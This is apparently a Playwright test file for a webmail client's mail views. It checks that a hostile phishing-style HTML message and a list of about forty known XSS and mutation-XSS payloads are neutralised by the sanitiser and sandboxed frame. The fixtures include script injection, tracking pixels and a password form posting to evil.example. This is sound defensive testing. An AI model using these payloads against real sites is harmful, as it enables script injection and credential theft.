/**
 * The reading and writing views in Debian's Chromium: a hostile HTML mail runs no
 * script and fetches nothing remote; the sanitiser holds against known payloads in a
 * real DOM; remote images load only once allowed; the views are keyboard-usable.
 *
 * The views are mounted by an esbuild-bundled fixture (fixtures/mail-views.tsx) served on
 * a made-up origin through Playwright's router, so every request the page or the mail
 * frame makes is seen, and none can leave the machine.
 */
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { BodyView, MessageView, ThreadView } from '../../shared/worker-mail-api';
import { launchChromium, screenshot } from './chromium';
import type { ComposerFixture, ConversationFixture } from './fixtures/mail-views';

const ORIGIN = 'http://tern.test';
/** The app page's policy, as src-server/http/static-shell.ts sends it. */
const APP_CSP =
  "default-src 'self'; script-src 'self'; worker-src 'self'; connect-src 'self'; img-src 'self' data: blob:; style-src 'self' 'unsafe-inline'; frame-src 'self' blob:; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";

let browser: Browser;
let bundle: string;

beforeAll(async () => {
  const result = await build({
    entryPoints: [fileURLToPath(new URL('./fixtures/mail-views.tsx', import.meta.url))],
    bundle: true,
    write: false,
    format: 'esm',
    jsx: 'automatic',
    target: 'chrome120',
    define: { 'process.env.NODE_ENV': '"production"' },
    logLevel: 'error',
  });
  bundle = result.outputFiles[0]?.text ?? '';
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

/** A tiny PNG drawn by Chromium itself, base64 (for attachment thumbnails and previews). */
async function drawPng(page: Page, width: number, height: number, hue: number): Promise<string> {
  return page.evaluate(
    async ({ width, height, hue }) => {
      const canvas = new OffscreenCanvas(width, height);
      const context = canvas.getContext('2d') as OffscreenCanvasRenderingContext2D;
      const gradient = context.createLinearGradient(0, 0, width, height);
      gradient.addColorStop(0, `hsl(${hue} 70% 60%)`);
      gradient.addColorStop(1, `hsl(${hue + 60} 70% 40%)`);
      context.fillStyle = gradient;
      context.fillRect(0, 0, width, height);
      context.fillStyle = 'rgba(255,255,255,.85)';
      context.beginPath();
      context.arc(width * 0.7, height * 0.35, Math.min(width, height) * 0.12, 0, Math.PI * 2);
      context.fill();
      context.fillStyle = `hsl(${hue + 120} 40% 25%)`;
      context.beginPath();
      context.moveTo(0, height);
      context.lineTo(width * 0.35, height * 0.45);
      context.lineTo(width * 0.6, height * 0.8);
      context.lineTo(width * 0.8, height * 0.6);
      context.lineTo(width, height);
      context.fill();
      const blob = await canvas.convertToBlob({ type: 'image/png' });
      const bytes = new Uint8Array(await blob.arrayBuffer());
      let binary = '';
      for (const byte of bytes) binary += String.fromCharCode(byte);
      return btoa(binary);
    },
    { width, height, hue },
  );
}

interface Watch {
  readonly requests: string[];
  readonly console: string[];
  /** Where each console message came from (the page script, or a frame like about:srcdoc). */
  readonly consoleSources: string[];
  readonly dialogs: string[];
  readonly errors: string[];
}

/** Opens the fixture page; everything off the fixture's origin is recorded and refused, except the `allowed` image host. */
async function openFixture(options: { csp: string | null }): Promise<{ page: Page; watch: Watch }> {
  const page = await browser.newPage({ viewport: { width: 1180, height: 900 }, deviceScaleFactor: 1 });
  const watch: Watch = { requests: [], console: [], consoleSources: [], dialogs: [], errors: [] };
  page.on('request', (request) => watch.requests.push(request.url()));
  page.on('console', (message) => {
    watch.console.push(`${message.type()}: ${message.text()}`);
    watch.consoleSources.push(message.location().url);
  });
  page.on('dialog', (dialog) => {
    watch.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => watch.errors.push(error.message));
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    if (url === `${ORIGIN}/`) {
      const headers: Record<string, string> = { 'content-type': 'text/html; charset=utf-8' };
      if (options.csp) headers['content-security-policy'] = options.csp;
      await route.fulfill({
        headers,
        body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Tern mail views</title>
<style>html,body{margin:0;background:#f4f6f8;font-family:system-ui,sans-serif} #root{min-height:100vh} .fixture-composer{width:760px;height:620px;margin:24px auto}</style>
</head><body><div id="root"></div><script type="module" src="/fixture.js"></script></body></html>`,
      });
    } else if (url === `${ORIGIN}/fixture.js`) {
      await route.fulfill({ headers: { 'content-type': 'text/javascript' }, body: bundle });
    } else if (!/^(?:https?|wss?|ftp):/i.test(url)) {
      await route.continue(); // the browser's own resources (its PDF viewer), not network
    } else if (url.startsWith(`${ORIGIN}/api/proxy/image?`)) {
      // The gateway's image proxy, as the app's frame reaches it ('self').
      await route.fulfill({ headers: { 'content-type': 'image/svg+xml' }, body: REMOTE_SVG });
    } else {
      await route.abort('blockedbyclient');
    }
  });
  await page.goto(`${ORIGIN}/`);
  await page.waitForFunction(() => typeof window.__tern === 'object');
  return { page, watch };
}

const REMOTE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="160" viewBox="0 0 600 160"><defs><linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#0b7285"/><stop offset="1" stop-color="#15aabf"/></linearGradient></defs><rect width="600" height="160" rx="10" fill="url(#g)"/><text x="300" y="92" font-family="sans-serif" font-size="30" fill="#fff" text-anchor="middle">Remote banner (allowed)</text></svg>`;

/** Network requests that left the fixture's origin (the browser's own chrome:// PDF viewer resources are not network). */
const offFixture = (watch: Watch) => watch.requests.filter((url) => /^(?:https?|wss?|ftp):/i.test(url) && !url.startsWith(`${ORIGIN}/`));

// ── Mail used by the tests ───────────────────────────────────────────────────

const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>
  @import url(https://evil.example/import.css);
  body { background: #fff url(https://evil.example/body-bg.png); }
  .hero { background-image: \\75 rl(https://evil.example/escaped.png); padding: 18px; border-radius: 8px; }
  @font-face { font-family: Evil; src: url(https://evil.example/font.woff2); }
  .set { background-image: image-set("https://evil.example/set.png" 1x); }
  .card { border: 1px solid #e3e6ea; border-radius: 10px; padding: 16px 20px; max-width: 560px; }
  h1 { font-size: 20px; margin: 0 0 8px; }
  .amount { font-size: 28px; font-weight: 700; color: #c92a2a; }
</style>
</head>
<body onload="window.__pwned='body-onload'">
<script>window.__pwned = 'script'; parent.__pwned = 'script';</script>
<div class="card">
<h1 style="font-family: Evil, sans-serif">Your invoice is overdue</h1>
<p>Amount due: <span class="amount">€ 4,980.00</span></p>
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<img src="x" onerror="parent.__pwned='onerror'" alt="broken">
<img srcset="https://evil.example/srcset.png 2x" alt="srcset image" width="120" height="40">
<svg onload="parent.__pwned='svg'"><image href="https://evil.example/svg.png"/></svg>
<iframe srcdoc="<script>parent.parent.__pwned='iframe'</script>"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/obj.swf"></object><embed src="https://evil.example/embed.swf">
<form action="https://evil.example/steal" method="post"><p>Confirm your password: <input name="password" type="password" placeholder="Password"> <button>Sign in</button></p></form>
<table background="https://evil.example/table-bg.png" width="100%"><tr><td class="hero set">Pay within 24 hours to avoid suspension.</td></tr></table>
<p><a href="javascript:parent.__pwned='js-link'" id="jslink">Open invoice</a> ·
<a href="https://example.com/invoice" id="weblink">View online</a> ·
<a href="mailto:billing@example.com?subject=Invoice%2042" id="maillink">billing@example.com</a></p>
<video poster="https://evil.example/poster.jpg" src="https://evil.example/v.mp4"></video>
<div style="position:fixed;top:0;left:0;right:0;background:url('https://evil.example/overlay.png');font-size:12px;color:#868e96">This line tried to cover the page (position: fixed).</div>
</div>
<math><mtext><table><mglyph><style><img src=x onerror="parent.__pwned='mxss'">
<noscript><p title="</noscript><img src=x onerror=parent.__pwned='noscript'>"></p></noscript>
</body></html>`;

const NEWSLETTER_HTML = `<div style="font-family: Georgia, serif; max-width: 600px">
<img src="cid:header@kite" alt="Trip header" width="600" style="width:100%;border-radius:10px">
<h2 style="font-family: Georgia, serif; color:#1c3d5a">Lisbon, three days in May</h2>
<p>Hi! Here is the plan we talked about. Flights are booked; the hotel confirmation is attached, with the map.</p>
<img src="https://images.example/banner.svg" alt="Banner" width="600" style="width:100%">
<ul><li>Thursday: Alfama and the castle</li><li>Friday: Belém, pastéis de nata</li><li>Saturday: Sintra day trip</li></ul>
<p>See the <a href="https://example.com/itinerary">full itinerary online</a>.</p>
<blockquote type="cite">Can we keep Saturday free? — Ann</blockquote>
</div>`;

const HEADER_SVG = `data:image/svg+xml;base64,${Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="120" viewBox="0 0 600 120"><defs><linearGradient id="s" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="#ffd8a8"/><stop offset="1" stop-color="#f783ac"/></linearGradient></defs><rect width="600" height="120" fill="url(#s)"/><circle cx="480" cy="50" r="26" fill="#fff3bf"/><path d="M0 120 L120 70 L210 100 L330 55 L450 95 L600 60 L600 120 Z" fill="#862e9c" opacity=".55"/><text x="28" y="70" font-family="Georgia,serif" font-size="30" fill="#fff">Lisbon · May</text></svg>`,
).toString('base64')}`;

const PDF = `%PDF-1.1
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length 96>>stream
BT /F1 22 Tf 40 230 Td (Hotel Alfama - booking) Tj 0 -40 Td /F1 14 Tf (3 nights, 16-19 May) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>`;

const NOW = Date.UTC(2025, 4, 12, 15, 30);

function message(id: string, over: Partial<MessageView>): MessageView {
  return {
    id,
    accountId: 'acc1',
    threadId: 't1',
    folderId: 'inbox',
    subject: 'Lisbon trip',
    from: [],
    to: [{ name: 'Me', email: 'me@tern.test' }],
    cc: [],
    replyTo: [],
    date: NOW,
    unread: false,
    starred: false,
    draft: false,
    snippet: '',
    attachments: [],
    messageIdHeader: null,
    ...over,
  };
}

function conversation(thumbnail: string, options: { hostile: boolean } = { hostile: true }): ConversationFixture {
  const messages: MessageView[] = [
    message('1', {
      from: [{ name: 'Ann Lee', email: 'ann@example.com' }],
      to: [{ name: 'Me', email: 'me@tern.test' }, { name: 'Bob Kim', email: 'bob@kite.test' }],
      date: NOW - 3 * 86_400_000,
      snippet: 'Shall we go to Lisbon in May? I found cheap flights…',
    }),
    message('2', {
      from: [{ name: 'Bob Kim', email: 'bob@kite.test' }],
      to: [{ name: 'Me', email: 'me@tern.test' }],
      cc: [{ name: 'Ann Lee', email: 'ann@example.com' }],
      date: NOW - 5 * 3_600_000,
      unread: true,
      snippet: 'Hi! Here is the plan we talked about.',
      attachments: [
        { index: 0, filename: 'hotel-booking.pdf', size: 248_312, contentType: 'application/pdf', contentId: null },
        { index: 1, filename: 'alfama.png', size: 1_843_210, contentType: 'image/png', contentId: null },
        { index: 2, filename: 'scan-passport.tiff', size: 3_145_728, contentType: 'image/tiff', contentId: null },
        { index: 3, filename: 'budget.xlsx', size: 18_432, contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', contentId: null },
        { index: 4, filename: 'header.svg', size: 2_000, contentType: 'image/svg+xml', contentId: 'header@kite' },
      ],
    }),
    message('3', {
      subject: 'Lisbon trip',
      from: [{ name: 'Billing Department', email: 'billing@evil.example' }],
      to: [{ name: 'Me', email: 'me@tern.test' }],
      date: NOW - 20 * 60_000,
      unread: true,
      snippet: 'Your invoice is overdue',
    }),
  ];
  if (!options.hostile) messages.pop();
  const thread: ThreadView = {
    row: {
      key: 'acc1:t1',
      accountId: 'acc1',
      threadId: 't1',
      subject: 'Lisbon trip',
      participants: [],
      snippet: '',
      lastMessageAt: NOW,
      messageCount: messages.length,
      unreadCount: 2,
      starred: false,
      hasAttachments: true,
      folderIds: ['inbox'],
      pending: false,
    },
    messages,
  };
  const bodies: Record<string, BodyView> = {
    '1': { messageId: '1', html: null, text: 'Shall we go to Lisbon in May? I found cheap flights on https://flights.example.com/lis.\n\nAnn\n\n> On Monday Bob wrote:\n> Somewhere warm, please.', attachments: [], inlineImages: {} },
    '2': { messageId: '2', html: NEWSLETTER_HTML, text: null, attachments: messages[1]?.attachments ?? [], inlineImages: { 'header@kite': HEADER_SVG } },
    '3': { messageId: '3', html: HOSTILE_HTML, text: null, attachments: [], inlineImages: {} },
  };
  return { thread, bodies, now: NOW, attachmentData: { '2:0': PDF, '2:1': `base64:${thumbnail}` } };
}

// ── Tests ───────────────────────────────────────────────────────────────────

describe('a hostile HTML message', () => {
  test('runs no script, fetches nothing remote, and still reads well', async () => {
    // No page CSP at all: only the pipeline, the frame's own CSP and its sandbox stand in the way.
    const { page, watch } = await openFixture({ csp: null });
    const png = await drawPng(page, 640, 420, 190);
    await page.evaluate((data) => window.__tern.mountConversation(data), conversation(png));

    const hostile = page.getByRole('article', { name: /Message from Billing Department/ });
    const frame = hostile.locator('iframe');
    await frame.waitFor();
    await expect.poll(async () => (await frame.boundingBox())?.height ?? 0).toBeGreaterThan(250);
    const sandbox = await frame.getAttribute('sandbox');
    expect(sandbox).toBe('allow-same-origin allow-popups allow-popups-to-escape-sandbox');
    expect(sandbox).not.toContain('allow-scripts');

    const content = page.frameLocator('iframe[title="Message from Billing Department"]');
    await content.getByText('Your invoice is overdue').waitFor();
    // The phishing form lost its form, the link its javascript:, the overlay its position.
    await expect(content.locator('form, input, button, script, iframe, object, embed, svg, meta[http-equiv="refresh"], base').count()).resolves.toBe(0);
    await expect(content.locator('#jslink').getAttribute('href')).resolves.toBeNull();
    await expect(content.locator('#weblink').getAttribute('rel')).resolves.toBe('noopener noreferrer');
    await expect(content.locator('#weblink').getAttribute('target')).resolves.toBe('_blank');
    await expect(content.locator('#weblink').getAttribute('title')).resolves.toBe('https://example.com/invoice');

    await content.locator('#jslink').click();
    // A mailto: link opens our composer instead of leaving the app.
    await content.locator('#maillink').click();
    await expect.poll(() => page.evaluate(() => window.__events.filter((event) => event.kind === 'compose').length)).toBe(1);
    const composed = await page.evaluate(() => window.__events.find((event) => event.kind === 'compose')?.value as { to: { email: string }[]; subject: string });
    expect(composed.to[0]?.email).toBe('billing@example.com');
    expect(composed.subject).toBe('Invoice 42');

    await page.waitForTimeout(500); // anything delayed (refresh, lazy loads) would have happened by now
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    for (const child of page.frames()) {
      expect(await child.evaluate(() => (window as { __pwned?: unknown }).__pwned).catch(() => undefined)).toBeUndefined();
    }
    expect(watch.dialogs).toEqual([]);
    expect(watch.errors).toEqual([]);
    expect(watch.console).toEqual([]);
    expect(offFixture(watch)).toEqual([]);
    expect(watch.requests.some((url) => url.includes('evil.example'))).toBe(false);
    expect(page.url()).toBe(`${ORIGIN}/`);

    await screenshot(page, 'mail-conversation-hostile');
    await page.close();
  });

  test('under the app CSP too, nothing in the frame runs or complains', async () => {
    const { page, watch } = await openFixture({ csp: APP_CSP });
    await page.evaluate((data) => window.__tern.mountConversation(data), conversation(''));
    const content = page.frameLocator('iframe[title="Message from Billing Department"]');
    await content.getByText('Your invoice is overdue').waitFor();
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    // Chromium checks the page CSP as soon as any parser, even DOMParser's inert one that
    // DOMPurify uses, meets an on* attribute or a <base>, and logs a "blocked" report for
    // it; nothing runs. Such reports come from the page's script; the frame says nothing.
    const fromFrames = watch.console.filter((_line, index) => !watch.consoleSources[index]?.startsWith(`${ORIGIN}/`));
    expect(fromFrames).toEqual([]);
    const other = watch.console.filter((line) => !/^error: (?:Executing inline event handler|Setting the document's base URI)[^]*violates the following Content Security Policy directive[^]*The action has been blocked\.$/.test(line));
    expect(other).toEqual([]);
    expect(watch.errors).toEqual([]);
    expect(offFixture(watch)).toEqual([]);
    await page.close();
  });
});

describe('remote images', () => {
  test('stay blocked until "Show images", then load through the gateway\'s image proxy, never from the sender (the app\'s own CSP)', async () => {
    const { page, watch } = await openFixture({ csp: APP_CSP });
    const png = await drawPng(page, 640, 420, 190);
    await page.evaluate((data) => window.__tern.mountConversation(data), conversation(png, { hostile: false }));
    const newsletter = page.getByRole('article', { name: /Message from Bob Kim/ });
    const bar = newsletter.getByRole('region', { name: 'Remote images blocked' });
    await bar.waitFor();
    await expect(bar.textContent()).resolves.toContain('1 remote image is hidden');
    // The inline (cid:) header shows without any request.
    const content = page.frameLocator('iframe[title="Message from Bob Kim"]');
    await expect(content.getByAltText('Trip header').evaluate((img) => (img as HTMLImageElement).naturalWidth)).resolves.toBeGreaterThan(0);
    expect(offFixture(watch)).toEqual([]);
    await screenshot(page, 'mail-conversation-blocked');

    await bar.getByRole('button', { name: 'Show images' }).click();
    await expect.poll(() => content.getByAltText('Banner').evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
    expect(watch.requests.filter((url) => url.startsWith(`${ORIGIN}/api/proxy/image?`))).toEqual([`${ORIGIN}/api/proxy/image?u=${encodeURIComponent('https://images.example/banner.svg')}`]);
    expect(offFixture(watch)).toEqual([]);
    await expect(newsletter.getByRole('region', { name: 'Remote images blocked' }).count()).resolves.toBe(0);
    expect(watch.console).toEqual([]);
    await screenshot(page, 'mail-conversation-images-shown');
    await page.close();
  });

  test('"Always show from this sender" is handed to the shell', async () => {
    const { page } = await openFixture({ csp: null });
    await page.evaluate((data) => window.__tern.mountConversation(data), conversation(''));
    await page.getByRole('button', { name: 'Always show from bob@kite.test' }).click();
    await expect.poll(() => page.evaluate(() => window.__events.filter((event) => event.kind === 'trustSender').map((event) => event.value))).toEqual(['bob@kite.test']);
    await page.close();
  });
});

describe('the sanitiser in a real DOM', () => {
  const PAYLOADS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<style></style><img src=x onerror=alert(1)>',
    '<img src="x" alt="`<img src=x onerror=alert(1)>`">',
    '<a id=x tabindex=1 onfocus=alert(1)></a>',
    '<input autofocus onfocus=alert(1)>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<table background="javascript:alert(1)">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  ];

  test('no payload survives sanitising, nor the whole pipeline', async () => {
    const { page } = await openFixture({ csp: null });
    const findings = await page.evaluate((payloads) => {
      const problems: string[] = [];
      const check = (label: string, html: string) => {
        // Parse the result the way the frame will, and look for anything that could run.
        const doc = new DOMParser().parseFromString(html, 'text/html');
        for (const element of Array.from(doc.querySelectorAll('*'))) {
          const name = element.localName;
          if (['script', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'base', 'link', 'svg', 'math', 'template', 'noscript', 'xmp'].includes(name)) problems.push(`${label}: <${name}>`);
          if (name === 'meta' && element.getAttribute('http-equiv')?.toLowerCase() !== 'content-security-policy' && element.getAttribute('name') !== 'referrer') problems.push(`${label}: <meta>`);
          for (const attribute of Array.from(element.attributes)) {
            if (/^on/i.test(attribute.name)) problems.push(`${label}: ${name}[${attribute.name}]`);
            if (/^\s*(?:javascript|vbscript|data:text)/i.test(attribute.value.replace(/[\u0000-\u0020]/g, '')) && attribute.name !== 'alt' && attribute.name !== 'title') problems.push(`${label}: ${name}[${attribute.name}=${attribute.value}]`);
          }
        }
      };
      for (const payload of payloads) {
        check(`sanitize ${payload}`, window.__tern.sanitize(payload));
        check(`pipeline ${payload}`, window.__tern.render(payload, false).srcdoc);
      }
      return problems;
    }, PAYLOADS);
    expect(findings).toEqual([]);
    await page.close();
  });

  test('data: URLs survive only as inline images', async () => {
    const { page } = await openFixture({ csp: null });
    const result = await page.evaluate(() => {
      const doc = new DOMParser().parseFromString(
        window.__tern.sanitize('<img id="a" src="data:image/png;base64,iVBORw0KGgo="><img id="b" src="data:text/html;base64,PHNjcmlwdD4="><a id="c" href="data:text/html,x">c</a><video id="d" src="data:video/mp4;base64,AAAA"></video>'),
        'text/html',
      );
      return ['a', 'b', 'c', 'd'].map((id) => doc.getElementById(id)?.getAttribute(id === 'c' ? 'href' : 'src') ?? null);
    });
    expect(result).toEqual(['data:image/png;base64,iVBORw0KGgo=', null, null, null]);
    await page.close();
  });
});

describe('attachments', () => {
  test('preview images and PDFs in a dialog; tiff and spreadsheets only download', async () => {
    const { page, watch } = await openFixture({ csp: APP_CSP });
    const png = await drawPng(page, 640, 420, 190);
    await page.evaluate((data) => window.__tern.mountConversation(data), conversation(png, { hostile: false }));
    const list = page.getByRole('article', { name: /Message from Bob Kim/ }).getByRole('region', { name: 'Attachments' });
    await list.waitFor();
    await expect(list.getByRole('button', { name: /^Preview scan-passport\.tiff/ }).count()).resolves.toBe(0);
    await expect(list.getByRole('button', { name: 'Download scan-passport.tiff (3.0 MB)' }).count()).resolves.toBe(1);
    await expect(list.getByRole('button', { name: /^Preview budget\.xlsx/ }).count()).resolves.toBe(0);
    await list.getByText('PNG · 1.8 MB').waitFor();

    await list.getByRole('button', { name: 'Preview alfama.png (1.8 MB)' }).click();
    const dialog = page.getByRole('dialog', { name: 'alfama.png' });
    await expect.poll(() => dialog.getByRole('img', { name: 'alfama.png' }).evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(640);
    await screenshot(page, 'mail-attachment-preview-image');
    await page.keyboard.press('ArrowLeft'); // previous previewable part: the PDF
    await dialog.page().getByRole('dialog', { name: 'hotel-booking.pdf' }).waitFor();
    await page.waitForTimeout(1200);
    await screenshot(page, 'mail-attachment-preview-pdf');
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog').count()).resolves.toBe(0);
    expect(offFixture(watch)).toEqual([]);
    // Only the page and its frames count; the PDF viewer is the browser's own extension page.
    expect(watch.console.filter((_line, index) => /^(?:http|about)/.test(watch.consoleSources[index] ?? ''))).toEqual([]);
    await page.close();
  });
});

describe('the composer', () => {
  const fixture = (): ComposerFixture => ({
    accounts: [
      { accountId: 'acc1', name: 'Me Myself', email: 'me@tern.test' },
      { accountId: 'acc2', name: 'Me at Kite', email: 'me@kite.test' },
    ],
    suggestions: [
      { name: 'Ann Lee', email: 'ann@example.com' },
      { name: 'Annika Berg', email: 'annika@kite.test' },
      { name: 'Andy Roe', email: 'andy@example.net' },
    ],
    initial: {
      mode: 'reply',
      accountId: 'acc1',
      to: [{ name: 'Bob Kim', email: 'bob@kite.test' }],
      cc: [],
      bcc: [],
      subject: 'Re: Lisbon trip',
      html: '<p><br></p><div class="tern-quote"><p>On Mon, 12 May 2025 at 10:30, Bob Kim &lt;bob@kite.test&gt; wrote:</p><blockquote type="cite"><p>Hi! Here is the plan we talked about.</p><img src="https://evil.example/quoted-pixel.gif" width="1" height="1"><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"></blockquote></div>',
      inReplyToMessageId: '2',
    },
  });

  test('is usable from the keyboard: suggestions, chips, formatting, attachments, send with undo', async () => {
    const { page, watch } = await openFixture({ csp: APP_CSP });
    await page.evaluate((data) => window.__tern.mountComposer(data), fixture());
    const composer = page.getByRole('form', { name: 'Re: Lisbon trip' });
    await composer.waitFor();
    // A reply starts in the body, above the quote.
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Message body');
    await page.keyboard.type('Sounds great, count me in!');
    await page.keyboard.press('Control+b');
    await page.keyboard.type(' Saturday');
    await page.keyboard.press('Control+b');
    await expect.poll(() => page.evaluate(() => window.__events.filter((event) => event.kind === 'save').length), { timeout: 4000 }).toBe(1);
    await expect(composer.getByRole('status').first().textContent()).resolves.toBe('Saved');

    // Add Cc with the keyboard: type, arrow down, Enter picks.
    await composer.getByRole('button', { name: 'Add Cc recipients' }).click();
    const cc = composer.getByRole('combobox', { name: 'Cc' });
    await cc.pressSequentially('ann');
    await composer.getByRole('option', { name: /Ann Lee/ }).waitFor();
    await page.keyboard.press('ArrowDown');
    await expect(composer.getByRole('option', { name: /Annika Berg/ }).getAttribute('aria-selected')).resolves.toBe('true');
    await page.keyboard.press('Enter');
    await cc.pressSequentially('andy@example');
    await page.keyboard.press('Escape'); // closes the suggestions, not the composer
    await page.keyboard.press(',');
    await expect(composer.getByRole('alert').first().textContent()).resolves.toContain('This email address is not valid.');

    // Attach two files through the picker: one fine, one over the limit.
    await composer.locator('input[type="file"]').setInputFiles([
      { name: 'itinerary #2.pdf', mimeType: 'application/pdf', buffer: Buffer.from(PDF) },
      { name: 'video.mov', mimeType: 'video/quicktime', buffer: Buffer.alloc(26 * 1024 * 1024) },
    ]);
    await composer.getByText('“video.mov” (26.0 MB): This file is too large or empty. Attachments can be at most 25.0 MB each.').waitFor();
    await composer.getByText('Attached as “itinerary _2.pdf”', { exact: false }).waitFor();
    await page.waitForTimeout(100);
    await screenshot(page, 'mail-composer');

    // The invalid chip blocks sending; removing it lets the message go, with Undo.
    await page.keyboard.press('Control+Enter');
    await expect(composer.getByText(/Fix or remove “andy@example”/).count()).resolves.toBe(1);
    await composer.getByRole('button', { name: 'Remove andy@example' }).click();
    await composer.getByRole('button', { name: 'Remove video.mov' }).click();
    await expect.poll(() => composer.getByRole('progressbar').count()).toBe(0);
    await composer.getByRole('textbox', { name: 'Message body' }).click();
    await page.keyboard.press('Control+Enter');
    const undo = page.getByRole('button', { name: 'Undo' });
    await undo.waitFor();
    await screenshot(page, 'mail-composer-undo');
    const sent = await page.evaluate(() => window.__events.filter((event) => event.kind === 'save').at(-1)?.value as { html: string; cc: { email: string }[]; attachmentIds: string[] });
    expect(sent.cc.map((address) => address.email)).toEqual(['annika@kite.test']);
    expect(sent.attachmentIds).toEqual(['up-itinerary _2.pdf']);
    expect(sent.html).toContain('<b>');
    expect(sent.html).toContain('src="https://evil.example/quoted-pixel.gif"'); // the recipient gets the quote whole…
    expect(sent.html).not.toMatch(/<script|onerror/);
    await undo.click();
    await expect.poll(() => page.evaluate(() => window.__events.filter((event) => event.kind === 'undo').length)).toBe(1);
    await composer.getByRole('textbox', { name: 'Subject' }).waitFor();

    // …but writing the reply fetched nothing and ran nothing.
    expect(offFixture(watch)).toEqual([]);
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(watch.errors).toEqual([]);
    await page.close();
  });
});
